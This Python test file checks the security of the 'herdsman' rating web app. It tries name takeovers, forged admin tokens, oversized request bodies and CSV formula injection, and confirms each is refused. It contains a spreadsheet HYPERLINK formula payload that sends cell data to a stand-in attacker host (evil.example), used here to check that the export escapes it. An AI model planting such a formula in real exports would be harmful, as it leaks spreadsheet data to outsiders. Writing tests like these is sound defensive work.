"""Attacks on the rating app, driven through the real app, each refused with nothing written.

Names are not credentials, results and exports are the admin's, any item id can
be rated, a locked database answers 503 (and the page retries) without stalling
other pages, oversized bodies are cut off before parsing, CSV cells cannot run
as formulas, tokens are stored hashed and expire, and every response carries
the full CSP and ``nosniff``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import select
import socket
import sqlite3
import threading
import time
from pathlib import Path
from typing import Any

import httpx
from fastapi.testclient import TestClient

from herdsman.evaluate.answer_sheets import AnswerSheet, Item
from herdsman.rating.app import create_app
from herdsman.rating.db import RatingDB
from tests.helpers.web import chromium, serve

ADMIN = "admin-token-" + "x" * 24
GRADES = {"grade_0": "A", "grade_1": "B"}
ODD_IDS = ["a/b", "50%", "what?", "#1", "ünï/çødé ✓", "../..", "%2F", "x?y=1#z"]
CSP_DIRECTIVES = ("frame-ancestors 'none'", "form-action 'self'", "base-uri 'none'")


def _db(path: Path, ids: list[str] | None = None) -> RatingDB:
    sheet = AnswerSheet()
    for n, item_id in enumerate(ids or ["item-1", "item-2"]):
        item = Item(item_id, f"Instruction {n}.")
        sheet.add(item, "model-a", f"first answer {n}")
        sheet.add(item, "model-b", f"second answer {n}")
    db = RatingDB(path)
    db.import_sheet(sheet)
    return db


def _dump(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row a login or a submission could write."""
    with sqlite3.connect(path) as raw:
        return {
            table: sorted(raw.execute(f"SELECT * FROM {table}").fetchall())
            for table in ("raters", "sessions", "invites", "ratings")
        }


def _stored_bytes(path: Path) -> bytes:
    """The database file and its write-ahead log, as they lie on disk."""
    wal = Path(f"{path}-wal")
    return path.read_bytes() + (wal.read_bytes() if wal.exists() else b"")


def _client(app: Any) -> TestClient:
    return TestClient(app, follow_redirects=False)


def _login(client: TestClient | httpx.Client, name: str) -> None:
    response = client.post("/login", data={"name": name})
    assert response.status_code == 303, response.text


# --- 1. a name is not a credential ------------------------------------------------


def test_a_taken_name_cannot_take_over_its_rater(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    invite = db.invite("bob")  # invited, without --require-invite
    app = create_app(path, admin_token=ADMIN)
    ann = _client(app)
    _login(ann, "ann")
    assert ann.post("/rate/0", data=GRADES).status_code == 303
    before = _dump(path)
    for name in ("ann", "  ann  ", "bob"):
        eve = _client(app)
        refused = eve.post("/login", data={"name": name})
        assert refused.status_code == 409
        assert f"the name &#39;{name.strip()}&#39; is taken" in refused.text
        assert "set-cookie" not in refused.headers
        assert eve.get("/rate").headers["location"] == "/"  # eve is nobody
        assert eve.post("/rate/1", data=GRADES).status_code == 401
    assert _dump(path) == before
    assert "ann: 1 / 2 done" in ann.get("/rate").text  # ann's cookie still works
    bob = _client(app)
    assert bob.get(f"/invite/{invite}").status_code == 303  # and bob's invite link
    assert "bob: 0 / 2 done" in bob.get("/rate").text


def test_chromium_shows_a_taken_name_refused(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    db.login(name="ann")
    before = _dump(path)
    with serve(create_app(path, admin_token=ADMIN)) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url)
        page.fill("#name", "ann")
        page.click("#start")
        page.wait_for_selector("#error")
        assert "'ann' is taken" in page.inner_text("#error")
        assert "invite link" in page.inner_text("#error")
        assert page.locator("#instruction").count() == 0
        assert page.context.cookies() == []
    assert _dump(path) == before


# --- 2. results and exports are the admin's ---------------------------------------


def test_results_and_exports_need_the_admin_token(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path)
    app = create_app(path, admin_token=ADMIN)
    rater = _client(app)
    _login(rater, "ann")
    assert rater.post("/rate/0", data=GRADES).status_code == 303
    before = _dump(path)
    forged = _client(app)
    forged.cookies.set("herdsman_admin", "forged")
    attempts: list[tuple[TestClient, dict[str, str], int]] = [
        (rater, {}, 401),
        (_client(app), {}, 401),
        (_client(app), {"Authorization": "Bearer wrong"}, 403),
        (_client(app), {"Authorization": f"Basic {ADMIN}"}, 403),
        (_client(app), {"Authorization": f"Bearer {ADMIN[:-1]}"}, 403),
        (forged, {}, 403),
    ]
    for target in ("/results", "/export.csv", "/export.json"):
        for client, headers, status in attempts:
            response = client.get(target, headers=headers)
            assert response.status_code == status, (target, headers)
            assert "model-a" not in response.text and "ann" not in response.text
        allowed = _client(app).get(target, headers={"Authorization": f"Bearer {ADMIN}"})
        assert allowed.status_code == 200 and "model-a" in allowed.text
    assert _dump(path) == before


def test_admin_links_and_the_token_form_set_an_httponly_cookie(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path)
    app = create_app(path)  # no token given: a random one
    admin = app.state.admin
    assert len(admin.token) >= 32
    assert _client(app).get("/export.json", headers={"Authorization": f"Bearer {admin.token}"})
    code = admin.one_time_code()
    browser = _client(app)
    response = browser.get(f"/admin/login/{code}")
    assert response.status_code == 303 and response.headers["location"] == "/results"
    cookie = response.headers["set-cookie"]
    assert cookie.startswith("herdsman_admin=") and "HttpOnly" in cookie
    assert "samesite=strict" in cookie.lower()
    assert browser.get("/export.json").status_code == 200
    again = _client(app).get(f"/admin/login/{code}")  # one-time: used up
    assert again.status_code == 403 and "set-cookie" not in again.headers
    wrong = _client(app).post("/admin", data={"token": "guess"})
    assert wrong.status_code == 403 and "set-cookie" not in wrong.headers
    pasted = _client(app)
    assert pasted.post("/admin", data={"token": admin.token}).status_code == 303
    assert pasted.get("/results").status_code == 200


def test_chromium_results_only_through_the_admin_link(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    ann = db.rater_for(db.login(name="ann"))
    assert ann
    db.submit(ann, "item-1", {0: "A", 1: "D"})
    app = create_app(path, admin_token=ADMIN)
    with serve(app) as url, chromium() as browser:
        page = browser.new_page()
        response = page.goto(f"{url}/results")
        assert response is not None and response.status == 401
        assert "admin only" in page.inner_text("#error")
        assert "model-a" not in page.content()
        response = page.goto(f"{url}/export.csv")
        assert response is not None and response.status == 401
        page.goto(f"{url}/admin/login/{app.state.admin.one_time_code()}")
        page.wait_for_selector("text=Ratings so far")
        assert "model-a" in page.content()
        assert "herdsman_admin" not in page.evaluate("document.cookie")  # httponly
        assert page.goto(f"{url}/export.json") is not None
        assert json.loads(page.inner_text("body"))[0]["rater"] == "ann"


# --- 3. any item id can be rated ---------------------------------------------------


def test_any_item_id_can_be_rated(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path, ODD_IDS)
    client = _client(create_app(path))
    _login(client, "ann")
    for n in range(len(ODD_IDS)):
        page = client.get("/rate").text
        assert f'action="/rate/{n}"' in page
        assert client.post(f"/rate/{n}", data=GRADES).status_code == 303
    assert "All done, ann" in client.get("/rate").text
    assert {r["item"] for r in db.ratings()} == set(ODD_IDS)
    assert len(db.ratings()) == 2 * len(ODD_IDS)


def test_forged_positions_write_nothing(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path, ODD_IDS)
    client = _client(create_app(path))
    _login(client, "ann")
    before = _dump(path)
    for position in ("99", "-1", "1.0", "a%2Fb", "%2F", "0%3F", "%C3%BC", " 1"):
        status = client.post(f"/rate/{position}", data=GRADES).status_code
        assert status in (307, 400, 404, 405), position  # 307: "/rate//" to "/rate/"
    assert _dump(path) == before


def test_chromium_rates_items_with_any_id(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path, ODD_IDS)
    with serve(create_app(path)) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url)
        page.fill("#name", "ann")
        page.click("#start")
        for n in range(len(ODD_IDS)):
            page.locator("#progress", has_text=f"{n} / {len(ODD_IDS)} done").wait_for()
            page.keyboard.press("a")
            page.keyboard.press("c")
            page.keyboard.press("Enter")
        page.wait_for_selector("text=All done, ann")
    ann = db.rater_named("ann")
    assert ann
    rows = {(r["item"], r["model"]): r["grade"] for r in db.ratings()}
    for item_id in ODD_IDS:
        order = RatingDB.order(ann.id, item_id, ["model-a", "model-b"])
        assert [rows[(item_id, m)] for m in order] == ["A", "C"]


# --- 4. a locked database: 503, not 500, and no stall ------------------------------


def _hold_write_lock(path: Path) -> sqlite3.Connection:
    lock = sqlite3.connect(path, isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")
    return lock


def test_a_locked_database_answers_503_without_stalling_other_pages(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    invite = db.invite("bob")
    with (
        serve(create_app(path, busy_timeout=2.0)) as url,
        httpx.Client(base_url=url, timeout=30) as client,
    ):
        _login(client, "ann")
        before = _dump(path)
        lock = _hold_write_lock(path)
        try:
            answers: dict[str, httpx.Response] = {}

            def post() -> None:
                with httpx.Client(base_url=url, cookies=client.cookies, timeout=30) as other:
                    answers["json"] = other.post(
                        "/rate/0", data=GRADES, headers={"Accept": "application/json"}
                    )

            waiting = threading.Thread(target=post)
            waiting.start()
            time.sleep(0.3)  # the submit is now waiting for the lock
            start = time.monotonic()
            assert "ann: 0 / 2 done" in client.get("/rate").text
            assert client.get("/").status_code == 303
            assert waiting.is_alive(), "the pages waited for the locked submit"
            assert time.monotonic() - start < 1.5
            waiting.join(30)
            busy = answers["json"]
            assert busy.status_code == 503 and busy.headers["retry-after"] == "2"
            assert "busy" in busy.text and "Traceback" not in busy.text
            form = client.post("/rate/0", data=GRADES)  # a plain form post alike
            assert form.status_code == 503 and "Traceback" not in form.text
            link = httpx.get(f"{url}/invite/{invite}", headers={"Accept": "text/html"})
            assert link.status_code == 503 and 'http-equiv="refresh"' in link.text
            assert _dump(path) == before
        finally:
            lock.execute("ROLLBACK")
            lock.close()
        assert client.post("/rate/0", data=GRADES).status_code == 303
    assert len(db.ratings()) == 2


def test_chromium_page_retries_a_busy_submit(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    with serve(create_app(path, busy_timeout=0.5)) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url)
        page.fill("#name", "ann")
        page.click("#start")
        page.wait_for_selector("#instruction")
        lock = _hold_write_lock(path)
        try:
            for key in ("b", "d", "Enter"):
                page.keyboard.press(key)
            page.locator("#status", has_text="busy").wait_for(timeout=15000)
            assert db.ratings() == []
        finally:
            lock.execute("ROLLBACK")
            lock.close()
        page.locator("#progress", has_text="1 / 2 done").wait_for(timeout=15000)
    assert sorted(r["grade"] for r in db.ratings()) == ["B", "D"]


# --- 5. request bodies are limited ---------------------------------------------------


def test_oversized_bodies_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path)
    client = _client(create_app(path))
    before = _dump(path)
    assert client.post("/login", data={"name": "x" * 18_000_000}).status_code == 413
    upload = client.post(
        "/login", data={"name": "eve"}, files={"f": ("big.bin", b"\0" * 20_000_000)}
    )
    assert upload.status_code == 413
    assert _dump(path) == before
    _login(client, "ann")
    after_login = _dump(path)
    assert client.post("/rate/0", data={**GRADES, "pad": "x" * 70_000}).status_code == 413
    assert _dump(path) == after_login
    # A normal form, even a padded one under the limit, still goes through.
    assert client.post("/rate/0", data={**GRADES, "pad": "x" * 60_000}).status_code == 303


def _raw_request(url: str, head: bytes, chunks: list[bytes]) -> bytes:
    """Send a request over a plain socket, stop sending once an answer arrives, read it."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head)
        for chunk in chunks:
            if select.select([sock], [], [], 0.01)[0]:
                break
            try:
                sock.sendall(chunk)
            except OSError:
                break
        answer = b""
        while b"\r\n\r\n" not in answer:
            part = sock.recv(65536)
            if not part:
                break
            answer += part
    return answer


def test_oversized_bodies_are_cut_off_before_parsing_on_a_real_server(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path)
    before = _dump(path)
    form = b"Content-Type: application/x-www-form-urlencoded\r\n"
    with serve(create_app(path)) as url:
        # Declared too large: answered at once, without waiting for the 18 MB body.
        head = b"POST /login HTTP/1.1\r\nHost: x\r\n" + form + b"Content-Length: 18000000\r\n\r\n"
        assert _raw_request(url, head, []).startswith(b"HTTP/1.1 413")
        # Chunked, no length declared: counted as it streams in, cut off past 64 KB.
        head = b"POST /login HTTP/1.1\r\nHost: x\r\n" + form + b"Transfer-Encoding: chunked\r\n\r\n"
        chunk = b"2000\r\n" + b"name=" + b"x" * (0x2000 - 5) + b"\r\n"
        answer = _raw_request(url, head, [chunk] * 200)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert _dump(path) == before


# --- 6. CSV cells cannot run as formulas ----------------------------------------------


def test_csv_export_escapes_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    sheet = AnswerSheet()
    for item_id, instruction in (
        ("@item", hyperlink),
        ("-item", "+1+1"),
        ("plain", "\tTab first"),
        ("+item", "\rCarriage return first"),
    ):
        item = Item(item_id, instruction)
        sheet.add(item, "=model", "answer")
        sheet.add(item, "plain-model", "answer")
    RatingDB(path).import_sheet(sheet)
    app = create_app(path, admin_token=ADMIN)
    client = _client(app)
    _login(client, hyperlink)
    for n in range(4):
        assert client.post(f"/rate/{n}", data=GRADES).status_code == 303
    auth = {"Authorization": f"Bearer {ADMIN}"}
    text = client.get("/export.csv", headers=auth).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    raw = json.loads(client.get("/export.json", headers=auth).text)
    assert len(rows) == len(raw) == 8
    for escaped, original in zip(rows, raw, strict=True):
        for key in ("rater", "item", "instruction", "model"):
            value = original[key]
            dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert escaped[key] == ("'" + value if dangerous else value)
    assert {r["rater"] for r in rows} == {"'" + hyperlink}
    assert "'" + hyperlink in {r["instruction"] for r in rows}
    assert raw[0]["rater"] == hyperlink  # JSON keeps the data as it is


# --- 7. hashed, expiring tokens; headers on every response --------------------------


def test_tokens_are_stored_only_as_hashes(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    invite = db.invite("bob")
    client = _client(create_app(path))
    response = client.get(f"/invite/{invite}")
    session = response.cookies["herdsman_rater"]
    assert client.get("/rate").status_code == 200
    stored = _stored_bytes(path)
    for token in (invite, session):
        assert token.encode() not in stored
    dump = _dump(path)
    assert hashlib.sha256(session.encode()).hexdigest() in {row[0] for row in dump["sessions"]}
    assert hashlib.sha256(invite.encode()).hexdigest() in {row[0] for row in dump["invites"]}


OLD_SCHEMA = """
CREATE TABLE items (id TEXT PRIMARY KEY, position INTEGER NOT NULL, instruction TEXT NOT NULL,
    input TEXT NOT NULL DEFAULT '');
CREATE TABLE answers (item_id TEXT NOT NULL REFERENCES items(id), model TEXT NOT NULL,
    text TEXT NOT NULL, PRIMARY KEY (item_id, model));
CREATE TABLE raters (id INTEGER PRIMARY KEY, name TEXT NOT NULL UNIQUE, invite TEXT UNIQUE,
    session TEXT UNIQUE, created_at REAL NOT NULL);
CREATE TABLE ratings (rater_id INTEGER NOT NULL REFERENCES raters(id), item_id TEXT NOT NULL,
    model TEXT NOT NULL, grade TEXT NOT NULL CHECK (grade IN ('A','B','C','D')),
    created_at REAL NOT NULL, PRIMARY KEY (rater_id, item_id, model),
    FOREIGN KEY (item_id, model) REFERENCES answers(item_id, model));
INSERT INTO items VALUES ('i0', 0, 'Say hi.', ''), ('i1', 1, 'Say bye.', '');
INSERT INTO answers VALUES ('i0', 'm', 'hi'), ('i1', 'm', 'bye');
INSERT INTO raters VALUES (1, 'ann', NULL, 'plain-session-of-ann-0123456789', 0),
    (2, 'bob', 'plain-invite-of-bob-0123456789', NULL, 0);
INSERT INTO ratings VALUES (1, 'i0', 'm', 'B', 0);
"""


def test_an_old_database_with_plain_tokens_is_migrated(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as old:
        old.execute("PRAGMA journal_mode=WAL")
        old.executescript(OLD_SCHEMA)
    old.close()
    assert b"plain-session-of-ann" in path.read_bytes()
    app = create_app(path)
    stored = _stored_bytes(path)
    assert b"plain-session-of-ann" not in stored and b"plain-invite-of-bob" not in stored
    ann = _client(app)
    ann.cookies.set("herdsman_rater", "plain-session-of-ann-0123456789")
    assert "ann: 1 / 2 done" in ann.get("/rate").text
    bob = _client(app)
    assert bob.get("/invite/plain-invite-of-bob-0123456789").status_code == 303
    assert "bob: 0 / 2 done" in bob.get("/rate").text
    RatingDB(path)  # opening again changes nothing
    assert "ann: 1 / 2 done" in ann.get("/rate").text


def test_invites_and_sessions_expire(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    db = _db(path)
    invite = db.invite("bob", ttl=3600)
    app = create_app(path, session_ttl=600)
    ann = _client(app)
    response = ann.post("/login", data={"name": "ann"})
    assert "Max-Age=600" in response.headers["set-cookie"]
    with sqlite3.connect(path) as raw:
        (expires,) = raw.execute("SELECT expires_at FROM invites").fetchone()
        assert 3500 < expires - time.time() <= 3600
        raw.execute("UPDATE invites SET expires_at = 0")
        raw.execute("UPDATE sessions SET expires_at = 0")
    raw.close()
    before = _dump(path)
    assert ann.get("/rate").headers["location"] == "/"
    assert ann.post("/rate/0", data=GRADES).status_code == 401
    expired = _client(app).get(f"/invite/{invite}")
    assert expired.status_code == 404 and "expired" in expired.text
    assert "set-cookie" not in expired.headers
    assert _dump(path) == before


def test_every_response_carries_the_csp_and_nosniff(tmp_path: Path) -> None:
    path = tmp_path / "r.sqlite"
    _db(path)
    app = create_app(path, admin_token=ADMIN)

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("a bug")

    client = TestClient(app, follow_redirects=False, raise_server_exceptions=False)
    auth = {"Authorization": f"Bearer {ADMIN}"}
    responses = [
        client.get("/"),
        client.post("/login", data={"name": ""}),
        client.post("/login", data={"name": "ann"}),
        client.get("/rate"),
        client.post("/rate/0", data={"grade_0": "Z"}),
        client.get("/results"),
        client.get("/export.csv"),
        client.get("/export.csv", headers=auth),
        client.get("/export.json", headers=auth),
        client.get("/no-such-page"),
        client.delete("/"),
        client.post("/login", content=b"x" * 100_000),
        client.get("/boom"),
    ]
    statuses = {r.status_code for r in responses}
    assert {200, 303, 400, 401, 404, 405, 413, 500} <= statuses
    for response in responses:
        csp = response.headers.get("content-security-policy", "")
        assert all(d in csp for d in (*CSP_DIRECTIVES, "object-src 'none'")), response
        assert response.headers.get("x-content-type-options") == "nosniff", response
